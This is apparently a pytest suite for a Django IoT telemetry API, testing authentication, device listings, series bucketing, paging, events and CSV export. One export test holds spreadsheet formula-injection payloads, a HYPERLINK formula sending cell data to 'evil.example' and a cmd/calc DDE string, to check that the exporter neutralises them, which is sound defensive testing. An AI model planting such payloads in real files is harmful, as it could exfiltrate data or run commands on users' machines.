"""The query API: devices, latest values, series, readings, events, export, as each persona sees them."""

import csv
import datetime as dt
import io
import math
import statistics

import pytest
from django.test import Client

from core.errors import PermissionDenied
from core.lwm2m.nodes import Path, Reading
from core.lwm2m.types import UINT64_MAX, DataType
from core.services import token_create, token_revoke
from telemetry.ingest import ingest
from telemetry.models import Endpoint, LatestValue

pytestmark = pytest.mark.django_db

T0 = dt.datetime(2026, 11, 1, tzinfo=dt.UTC)
T0_MS = int(T0.timestamp() * 1000)


def reading(path: str, data_type: DataType, value: object, at_ms: int | None = None) -> Reading:
    return Reading(Path.parse(path), data_type, value, timestamp_ms=at_ms)


def temperatures(ep: str, values: list[float], *, step_ms: int = 60_000, path: str = "/3303/0/5700") -> None:
    ingest(
        endpoint_name=ep,
        readings=[reading(path, DataType.FLOAT, v, T0_MS + i * step_ms) for i, v in enumerate(values)],
    )


@pytest.fixture
def fleet() -> None:
    """Three devices: one with device info and temperatures, one asleep, one offline."""
    ingest(
        endpoint_name="dev-a",
        readings=[
            reading("/3/0/0", DataType.STRING, "Acme"),
            reading("/3/0/3", DataType.STRING, "1.2.0"),
            reading("/3/0/9", DataType.INTEGER, 87),
            reading("/3/0/7/0", DataType.INTEGER, 3300),
            reading("/3/0/7/1", DataType.INTEGER, 5000),
        ],
    )
    temperatures("dev-a", [20.0, 21.0, 22.5])
    temperatures("dev-b", [5.0])
    Endpoint.objects.filter(name="dev-b").update(sleeping=True)
    temperatures("dev-c", [9.0])
    Endpoint.objects.filter(name="dev-c").update(online=False)


def as_user(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def with_token(secret: str) -> Client:
    return Client(HTTP_AUTHORIZATION=f"Bearer {secret}")


class TestAuthentication:
    def test_anonymous_is_401_with_a_useful_message(self, client: Client, fleet) -> None:
        response = client.get("/api/v1/endpoints")
        assert response.status_code == 401
        assert response.json() == {
            "detail": "authentication required: log in, or send an API token (Authorization: Bearer fh_...)"
        }

    @pytest.mark.parametrize("persona", ["viewer", "operator", "admin_user"])
    def test_every_role_reads(self, request, persona: str, fleet) -> None:
        user = request.getfixturevalue(persona)
        assert as_user(user).get("/api/v1/endpoints").status_code == 200

    def test_a_user_without_a_role_is_403(self, outsider, fleet) -> None:
        response = as_user(outsider).get("/api/v1/endpoints")
        assert response.status_code == 403
        assert response.json() == {"detail": "this needs the viewer role"}

    def test_an_inactive_user_is_401(self, viewer, fleet) -> None:
        client = as_user(viewer)
        viewer.is_active = False
        viewer.save()
        assert client.get("/api/v1/endpoints").status_code == 401

    def test_a_valid_token_works_and_records_its_use(self, viewer, fleet) -> None:
        token, secret = token_create(actor=viewer, user=viewer, name="script")
        assert with_token(secret).get("/api/v1/endpoints").status_code == 200
        token.refresh_from_db()
        assert token.last_used_at is not None

    def test_a_revoked_token_is_401(self, viewer, fleet) -> None:
        token, secret = token_create(actor=viewer, user=viewer, name="script")
        token_revoke(actor=viewer, token=token)
        response = with_token(secret).get("/api/v1/endpoints")
        assert response.status_code == 401
        assert response.json() == {"detail": "the API token is not valid, or was revoked"}

    @pytest.mark.parametrize("header", ["Bearer fh_wrong", "Bearer nonsense", "Token abc", "Bearer "])
    def test_a_wrong_token_is_401(self, header: str, fleet) -> None:
        assert Client(HTTP_AUTHORIZATION=header).get("/api/v1/endpoints").status_code == 401

    def test_a_token_of_an_outsider_is_403(self, outsider, admin_user, fleet) -> None:
        with pytest.raises(PermissionDenied):
            token_create(actor=outsider, user=outsider, name="mine")  # no role, no token of their own
        _, secret = token_create(actor=admin_user, user=outsider, name="given by an admin")
        assert with_token(secret).get("/api/v1/endpoints").status_code == 403


class TestEndpoints:
    def test_the_list_shows_state_times_firmware_and_battery(self, viewer, fleet) -> None:
        body = as_user(viewer).get("/api/v1/endpoints?sort=name").json()
        assert body["count"] == 3
        assert [(e["name"], e["status"]) for e in body["items"]] == [
            ("dev-a", "online"),
            ("dev-b", "sleeping"),
            ("dev-c", "offline"),
        ]
        first = body["items"][0]
        assert (first["firmware_version"], first["battery"]) == ("1.2.0", 87)
        assert body["items"][1]["firmware_version"] is None

    @pytest.mark.parametrize(
        ("status", "names"), [("online", ["dev-a"]), ("sleeping", ["dev-b"]), ("offline", ["dev-c"])]
    )
    def test_it_filters_by_state(self, viewer, fleet, status: str, names: list[str]) -> None:
        body = as_user(viewer).get(f"/api/v1/endpoints?status={status}").json()
        assert [e["name"] for e in body["items"]] == names

    def test_it_searches_names_and_paginates(self, viewer, fleet) -> None:
        client = as_user(viewer)
        assert [e["name"] for e in client.get("/api/v1/endpoints?name=V-B").json()["items"]] == ["dev-b"]
        page = client.get("/api/v1/endpoints?sort=-name&limit=2&offset=1").json()
        assert (page["count"], page["limit"], page["offset"]) == (3, 2, 1)
        assert [e["name"] for e in page["items"]] == ["dev-b", "dev-a"]

    @pytest.mark.parametrize(
        ("query", "detail"),
        [
            ("status=asleep", "status: status must be one of online, sleeping, offline"),
            (
                "sort=voltage",
                "sort: sort must be one of name, -name, state, -state, last_seen, -last_seen, firmware, -firmware, "
                "battery, -battery",
            ),
            ("limit=0", "limit: Input should be greater than or equal to 1"),
            ("limit=1001", "limit: Input should be less than or equal to 1000"),
            ("offset=-1", "offset: Input should be greater than or equal to 0"),
        ],
    )
    def test_bad_parameters_are_422_naming_them(self, viewer, fleet, query: str, detail: str) -> None:
        response = as_user(viewer).get(f"/api/v1/endpoints?{query}")
        assert response.status_code == 422
        assert response.json()["detail"].endswith(detail.split(": ", 1)[1])
        assert detail.split(":")[0] in response.json()["detail"]

    def test_the_detail_has_the_latest_value_of_every_resource(self, viewer, fleet) -> None:
        body = as_user(viewer).get("/api/v1/endpoints/dev-a").json()
        assert body["name"] == "dev-a"
        assert body["firmware_version"] == "1.2.0"
        values = {r["path"]: r["value"] for r in body["resources"]}
        assert values == {
            "/3/0/0": "Acme",
            "/3/0/3": "1.2.0",
            "/3/0/7/0": 3300,
            "/3/0/7/1": 5000,
            "/3/0/9": 87,
            "/3303/0/5700": 22.5,
        }
        battery = next(r for r in body["resources"] if r["path"] == "/3/0/9")
        assert (battery["object_name"], battery["name"], battery["units"], battery["slug"]) == (
            "Device",
            "Battery Level",
            "/100",
            "battery_level",
        )
        assert [r["path"] for r in body["resources"]][:2] == ["/3/0/0", "/3/0/3"]

    def test_an_unknown_endpoint_is_404(self, viewer, fleet) -> None:
        response = as_user(viewer).get("/api/v1/endpoints/nope")
        assert response.status_code == 404
        assert response.json() == {"detail": "endpoint: no endpoint named 'nope'", "path": "endpoint"}

    def test_the_detail_takes_a_constant_number_of_queries(self, viewer, fleet, django_assert_num_queries) -> None:
        client = as_user(viewer)
        client.get("/api/v1/endpoints/dev-a")  # session and role warmed
        for i in range(200):
            ingest(endpoint_name="dev-a", readings=[reading(f"/3303/{i}/5700", DataType.FLOAT, float(i))])
        # session, user, role groups, endpoint (and its site, joined), its labels (prefetched), latest values
        with django_assert_num_queries(6):
            response = client.get("/api/v1/endpoints/dev-a")
        assert len(response.json()["resources"]) == 205  # 5 of the Device object, /3303/0..199/5700

    def test_the_list_takes_a_constant_number_of_queries(self, viewer, fleet, django_assert_num_queries) -> None:
        client = as_user(viewer)
        for i in range(30):
            temperatures(f"more-{i}", [1.0])
        # session, user, role groups, page (sites joined), their labels (one prefetch), latest values, count
        with django_assert_num_queries(7):
            response = client.get("/api/v1/endpoints?limit=50")
        assert len(response.json()["items"]) == 33


class TestLatestValues:
    def test_an_older_reading_arriving_late_does_not_replace_the_latest(self, fleet) -> None:
        temperatures("dev-a", [-40.0], path="/3303/0/5700")  # measured at T0, older than 22.5 at T0+2min
        latest = LatestValue.objects.select_related("resource", "resource__resource_type").get(
            endpoint__name="dev-a", path="/3303/0/5700"
        )
        assert latest.resource.value == 22.5

    def test_a_newer_reading_moves_the_latest_forward(self, fleet) -> None:
        ingest(endpoint_name="dev-a", readings=[reading("/3303/0/5700", DataType.FLOAT, 30.0)])
        latest = LatestValue.objects.select_related("resource", "resource__resource_type").get(
            endpoint__name="dev-a", path="/3303/0/5700"
        )
        assert latest.resource.value == 30.0


class TestSeries:
    def test_few_readings_come_back_as_points(self, viewer, fleet) -> None:
        body = as_user(viewer).get("/api/v1/endpoints/dev-a/series?path=/3303/0/5700").json()
        assert body["kind"] == "points"
        assert [p["value"] for p in body["points"]] == [20.0, 21.0, 22.5]
        assert body["buckets"] is None
        assert (body["path"], body["name"], body["data_type"]) == ("/3303/0/5700", "temperature", "FLOAT")

    def test_a_resource_can_be_named_instead_of_given_by_path(self, viewer, fleet) -> None:
        body = as_user(viewer).get("/api/v1/endpoints/dev-a/series?name=temperature&instance=0").json()
        assert len(body["points"]) == 3

    def test_many_readings_come_back_as_buckets_equal_to_a_python_computation(self, viewer) -> None:
        values = [math.sin(i / 7) * 10 + (i % 13) for i in range(1000)]
        temperatures("busy", values, step_ms=1000)
        since = T0
        until = T0 + dt.timedelta(seconds=1000)
        query = f"path=/3303/0/5700&since={since.isoformat()}&until={until.isoformat()}&buckets=7"
        body = as_user(viewer).get(f"/api/v1/endpoints/busy/series?{query.replace('+', '%2B')}").json()
        assert body["kind"] == "buckets"
        width = 1000 / 7
        expected: dict[int, list[float]] = {}
        for i, value in enumerate(values):
            expected.setdefault(int(i / width), []).append(value)
        assert len(body["buckets"]) == 7
        for bucket, (index, group) in zip(body["buckets"], sorted(expected.items()), strict=True):
            assert bucket["count"] == len(group)
            assert bucket["min"] == pytest.approx(min(group))
            assert bucket["max"] == pytest.approx(max(group))
            assert bucket["mean"] == pytest.approx(statistics.fmean(group))
            assert dt.datetime.fromisoformat(bucket["first_at"]) == T0 + dt.timedelta(
                seconds=round(index * width + 0.4999)
            )
            start = dt.datetime.fromisoformat(bucket["start"])  # JSON times carry milliseconds
            assert abs(start - (T0 + dt.timedelta(seconds=index * width))) < dt.timedelta(milliseconds=1)

    def test_unsigned_values_above_int64_are_bucketed_as_their_true_value(self, viewer) -> None:
        readings = [reading("/5/0/13", DataType.UNSIGNED_INTEGER, UINT64_MAX - i, T0_MS + i) for i in range(4)]
        ingest(endpoint_name="big", readings=readings)
        until = (T0 + dt.timedelta(seconds=1)).isoformat().replace("+", "%2B")
        body = as_user(viewer).get(f"/api/v1/endpoints/big/series?path=/5/0/13&buckets=2&until={until}").json()
        assert body["kind"] == "buckets"
        assert body["buckets"][0]["max"] == pytest.approx(float(UINT64_MAX))

    @pytest.mark.parametrize(
        ("query", "status", "detail"),
        [
            ("path=/3303/0/9999", 404, "path: no resource type /3303/9999"),
            ("name=nope", 404, "name: no resource type named 'nope'"),
            ("path=/3303/0", 422, "path: path must name a resource, e.g. /3303/0/5700"),
            ("path=3303-0", 422, "path: not an LwM2M path like /3303/0/5700"),
            ("", 422, "path: give either path or name"),
            ("path=/3303/0/5700&name=temperature", 422, "path: give either path or name"),
            ("path=/3303/0/5700&buckets=0", 422, "buckets: Input should be greater than or equal to 1"),
            ("path=/3303/0/5700&buckets=5001", 422, "buckets: Input should be less than or equal to 5000"),
            (
                "path=/3303/0/5700&since=2026-02-01T00:00:00Z&until=2026-01-01T00:00:00Z",
                422,
                "since: since must be before until",
            ),
            ("path=/3303/0/5700&since=yesterday", 422, "since: Input should be a valid datetime"),
        ],
    )
    def test_bad_requests_name_the_parameter(self, viewer, fleet, query: str, status: int, detail: str) -> None:
        response = as_user(viewer).get(f"/api/v1/endpoints/dev-a/series?{query}")
        assert response.status_code == status
        assert response.json()["detail"].startswith(detail)

    def test_text_values_are_not_bucketed(self, viewer) -> None:
        ingest(
            endpoint_name="t",
            readings=[reading("/3/0/0", DataType.STRING, str(i), T0_MS + i) for i in range(5)],
        )
        response = as_user(viewer).get("/api/v1/endpoints/t/series?path=/3/0/0&buckets=2")
        assert response.status_code == 422
        assert (
            response.json()["detail"] == "buckets: STRING values cannot be bucketed; page through them with /readings"
        )


class TestReadings:
    def test_a_cursor_walks_every_reading_once_in_order(self, viewer) -> None:
        temperatures("walk", [float(i) for i in range(25)])
        client = as_user(viewer)
        seen, cursor = [], None
        while True:
            url = "/api/v1/endpoints/walk/readings?path=/3303/0/5700&limit=10" + (f"&cursor={cursor}" if cursor else "")
            page = client.get(url).json()
            seen += [item["value"] for item in page["items"]]
            cursor = page["next_cursor"]
            if cursor is None:
                break
        assert seen == [float(i) for i in range(25)]

    def test_a_forged_cursor_is_422(self, viewer, fleet) -> None:
        response = as_user(viewer).get("/api/v1/endpoints/dev-a/readings?path=/3303/0/5700&cursor=!!!")
        assert response.status_code == 422
        assert response.json() == {"detail": "cursor: cursor is not one this API gave out", "path": "cursor"}


class TestEvents:
    def test_events_come_with_their_resources(self, viewer, fleet) -> None:
        body = as_user(viewer).get("/api/v1/events?endpoint=dev-a&type=3303").json()
        assert body["count"] == 1
        event = body["items"][0]
        assert (event["endpoint"], event["event_type"], event["description"]) == ("dev-a", "3303", "Temperature")
        assert [r["value"] for r in event["resources"]] == [20.0, 21.0, 22.5]

    def test_events_are_filtered_by_time(self, viewer, fleet) -> None:
        since = (T0 + dt.timedelta(days=1)).isoformat().replace("+", "%2B")
        assert as_user(viewer).get(f"/api/v1/events?since={since}").json()["count"] == 1  # the dev-a info post

    def test_the_event_list_takes_a_constant_number_of_queries(self, viewer, fleet, django_assert_num_queries) -> None:
        client = as_user(viewer)
        for i in range(20):
            temperatures(f"e{i}", [1.0, 2.0])
        with django_assert_num_queries(6):  # session, user, role groups, events, their resources, count
            assert len(client.get("/api/v1/events?limit=100").json()["items"]) == 22


class TestExport:
    def test_it_streams_a_csv_of_the_range(self, viewer, fleet) -> None:
        response = as_user(viewer).get("/api/v1/endpoints/dev-a/export.csv?path=/3303/0/5700")
        assert response.status_code == 200
        assert response.streaming
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        assert response["Content-Disposition"] == 'attachment; filename="dev-a.csv"'
        rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
        assert rows[0] == ["measured_at", "received_at", "path", "resource", "data_type", "units", "value"]
        assert [(r[2], r[3], r[6]) for r in rows[1:]] == [
            ("/3303/0/5700", "temperature", "20.0"),
            ("/3303/0/5700", "temperature", "21.0"),
            ("/3303/0/5700", "temperature", "22.5"),
        ]
        assert rows[1][0] == T0.isoformat()

    def test_a_whole_device_across_chunks(self, viewer, monkeypatch) -> None:
        from telemetry import selectors

        monkeypatch.setattr(selectors, "EXPORT_CHUNK", 7)
        temperatures("many", [float(i) for i in range(30)])
        response = as_user(viewer).get("/api/v1/endpoints/many/export.csv")
        lines = b"".join(response.streaming_content).decode().splitlines()
        assert len(lines) == 31
        assert [line.rsplit(",", 1)[1] for line in lines[1:]] == [str(float(i)) for i in range(30)]

    @pytest.mark.parametrize(
        ("sent", "written"),
        [
            ('=HYPERLINK("http://evil.example/?"&A1,"details")', '\'=HYPERLINK("http://evil.example/?"&A1,"details")'),
            ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
            ("+1+1", "'+1+1"),
            ("-2+3", "'-2+3"),
            ("\t=1+1", "'\t=1+1"),
            ("\r=1+1", "'\r=1+1"),
            ("a=b+c", "a=b+c"),
            ("'quoted", "'quoted"),
        ],
    )
    def test_it_prefixes_text_a_spreadsheet_would_run_as_a_formula(self, viewer, sent: str, written: str) -> None:
        ingest(endpoint_name="dev-f", readings=[reading("/3/0/0", DataType.STRING, sent, T0_MS)])
        response = as_user(viewer).get("/api/v1/endpoints/dev-f/export.csv")
        rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))
        assert [row[6] for row in rows[1:]] == [written]

    def test_numbers_stay_numbers_even_when_negative(self, viewer) -> None:
        temperatures("dev-n", [-5.5, -0.25])
        ingest(endpoint_name="dev-n", readings=[reading("/3/0/9", DataType.INTEGER, -1, T0_MS)])
        response = as_user(viewer).get("/api/v1/endpoints/dev-n/export.csv")
        rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
        assert sorted(row[6] for row in rows[1:]) == ["-0.25", "-1", "-5.5"]

    def test_export_needs_a_role(self, outsider, fleet) -> None:
        assert as_user(outsider).get("/api/v1/endpoints/dev-a/export.csv").status_code == 403


class TestFlownexusCompatibility:
    def test_data_by_resource_name_answers_like_flownexus(self, viewer, fleet) -> None:
        body = as_user(viewer).get("/leshan_api/data/temperature/?limit=2").json()
        assert [row["value"] for row in body] == [22.5, 21.0]
        assert set(body[0]) == {"timestamp_created", "value", "resource_type"}
        assert body[0]["resource_type"] == "temperature"

    def test_it_pages_and_filters_by_endpoint(self, viewer, fleet) -> None:
        client = as_user(viewer)
        # Newest first; the three readings at T0 by id, newest first.
        assert [r["value"] for r in client.get("/leshan_api/data/temperature/?limit=2&offset=2").json()] == [9.0, 5.0]
        assert [r["value"] for r in client.get("/leshan_api/data/temperature/?ep=dev-b").json()] == [5.0]

    def test_it_needs_a_user_not_just_loopback(self, client: Client, fleet) -> None:
        assert client.get("/leshan_api/data/temperature/").status_code == 401

    def test_an_unknown_name_is_404(self, viewer, fleet) -> None:
        response = as_user(viewer).get("/leshan_api/data/warmth/")
        assert response.status_code == 404
        assert response.json()["detail"] == "resource_name: no resource type named 'warmth'"


def test_every_operation_documents_its_responses(admin_user) -> None:
    from core.api import api, bridge_api

    for ninja_api, prefix in ((api, "/api/v1"), (bridge_api, "/leshan_api")):
        schema = ninja_api.get_openapi_schema(path_prefix=prefix)
        for path, operations in schema["paths"].items():
            for method, operation in operations.items():
                codes = {str(code) for code in operation["responses"]}
                assert any(code.startswith("2") for code in codes), (method, path)
                assert {"401", "422"} <= codes, (method, path, codes)


def test_the_openapi_schema_and_docs_are_served_to_logged_in_users(admin_user, client: Client) -> None:
    assert client.get("/api/v1/openapi.json").status_code == 302
    logged_in = as_user(admin_user)
    assert logged_in.get("/api/v1/openapi.json").json()["info"]["title"] == "Fieldhub API"
    docs = logged_in.get("/api/v1/docs")
    assert docs.status_code == 200
    assert b"cdn" not in docs.content.lower()
